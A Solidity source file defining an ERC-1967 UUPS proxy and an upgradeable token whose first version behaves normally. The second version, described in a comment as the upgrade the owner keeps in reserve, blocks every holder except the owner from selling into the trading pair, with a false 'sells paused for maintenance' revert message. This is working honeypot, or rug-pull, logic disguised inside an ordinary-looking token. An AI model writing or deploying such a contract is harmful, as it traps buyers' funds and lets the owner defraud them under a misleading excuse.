// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// ERC-1967 proxy for UUPS implementations: the upgrade logic lives in the implementation
/// (upgradeToAndCall, guarded by the owner and by the new code's proxiableUUID()).
contract UupsProxy {
    bytes32 private constant _SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address implementation, bytes memory initData) payable {
        assembly {
            sstore(_SLOT, implementation)
        }
        (bool ok, bytes memory ret) = implementation.delegatecall(initData);
        if (!ok) {
            assembly {
                revert(add(ret, 32), mload(ret))
            }
        }
    }

    fallback() external payable {
        assembly {
            let impl := sload(_SLOT)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

interface IProxiable {
    function proxiableUUID() external view returns (bytes32);
}

/// Shared storage and the UUPS upgrade entry point (OpenZeppelin v5 shape).
abstract contract UupsTokenBase {
    bytes32 internal constant _IMPL_SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    address private immutable _self = address(this);

    bool internal _ready;
    address public owner;
    address public pair;
    uint256 public totalSupply;
    string public name;
    string public symbol;
    mapping(address => uint256) internal _bal;
    mapping(address => mapping(address => uint256)) internal _allow;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Upgraded(address indexed implementation);

    function decimals() external pure returns (uint8) { return 18; }
    function balanceOf(address who) external view returns (uint256) { return _bal[who]; }

    function allowance(address who, address spender) external view returns (uint256) {
        return _allow[who][spender];
    }

    function proxiableUUID() external view returns (bytes32) {
        require(address(this) == _self, "UUPS: must not be called through delegatecall");
        return _IMPL_SLOT;
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        require(address(this) != _self, "UUPS: must be called through the proxy");
        require(msg.sender == owner, "UUPS: not owner");
        require(IProxiable(next).proxiableUUID() == _IMPL_SLOT, "UUPS: unsupported UUID");
        require(next.code.length > 0, "UUPS: not a contract");
        assembly {
            sstore(_IMPL_SLOT, next)
        }
        emit Upgraded(next);
        if (data.length > 0) {
            (bool ok,) = next.delegatecall(data);
            require(ok, "UUPS: init failed");
        }
    }

    function setPair(address pair_) external {
        require(msg.sender == owner, "not owner");
        pair = pair_;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allow[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(_allow[from][msg.sender] >= amount, "allowance");
        _allow[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        require(_bal[from] >= amount, "balance");
        _bal[from] -= amount;
        _bal[to] += amount;
        emit Transfer(from, to, amount);
    }
}

contract UupsTokenV1 is UupsTokenBase {
    function initialize(string calldata name_, string calldata symbol_, uint256 supply_,
                        address owner_) external {
        require(!_ready, "initialized");
        _ready = true;
        name = name_;
        symbol = symbol_;
        owner = owner_;
        totalSupply = supply_;
        _bal[owner_] = supply_;
        emit Transfer(address(0), owner_, supply_);
    }
}

/// The upgrade the owner keeps in reserve: only the owner may sell into the pair.
contract UupsTokenV2 is UupsTokenBase {
    function _move(address from, address to, uint256 amount) internal override {
        require(to != pair || from == owner, "V2: sells paused for maintenance");
        super._move(from, to, amount);
    }
}
